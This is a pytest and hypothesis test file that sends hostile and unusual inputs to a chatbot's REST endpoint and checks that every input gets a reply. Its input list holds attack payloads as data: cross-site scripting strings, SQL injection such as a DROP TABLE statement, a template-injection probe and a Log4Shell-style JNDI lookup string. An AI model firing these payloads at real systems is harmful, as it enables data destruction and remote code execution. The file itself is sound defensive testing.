"""Hostile and odd input through the REST channel: always a reply, never a server error."""

from __future__ import annotations

import uuid

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.stack

HOSTILE = [
    "",
    " ",
    "\x00\x01\x02",
    "😀" * 50,
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "'; DROP TABLE events; --",
    "' OR 1=1 --",
    "{{7*7}} ${jndi:ldap://x/a}",
    "A" * 10_000,
    "Beratung in Köln " * 700,
    "\u202e\u200b\ufeff",
    "مرحبا",
    "Merhaba, yardım lazım",
    "Hello there",
    '/inform_audience{"audience": "hacker"}',
    "/nonexistent_intent",
    '/ask_referral{"place": "<script>"}',
]

hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=300),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1000, max_size=3000),
    st.builds(lambda a, b: f"{a}<b>{b}</b>", st.text(max_size=40), st.text(max_size=40)),
)


@pytest.mark.parametrize("message", HOSTILE)
def test_known_hostile_inputs_get_a_friendly_reply(stack, message: str) -> None:
    replies = stack.send(f"hostile-{uuid.uuid4().hex}", message)
    assert replies and all(r.get("text") or r.get("buttons") for r in replies)


@settings(
    max_examples=1000,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=True,
)
@given(message=hostile_text)
def test_generated_hostile_inputs_never_fail(stack, message: str) -> None:
    replies = stack.send(f"hostile-{uuid.uuid4().hex}", message)
    assert replies, f"empty reply to {message[:80]!r}"
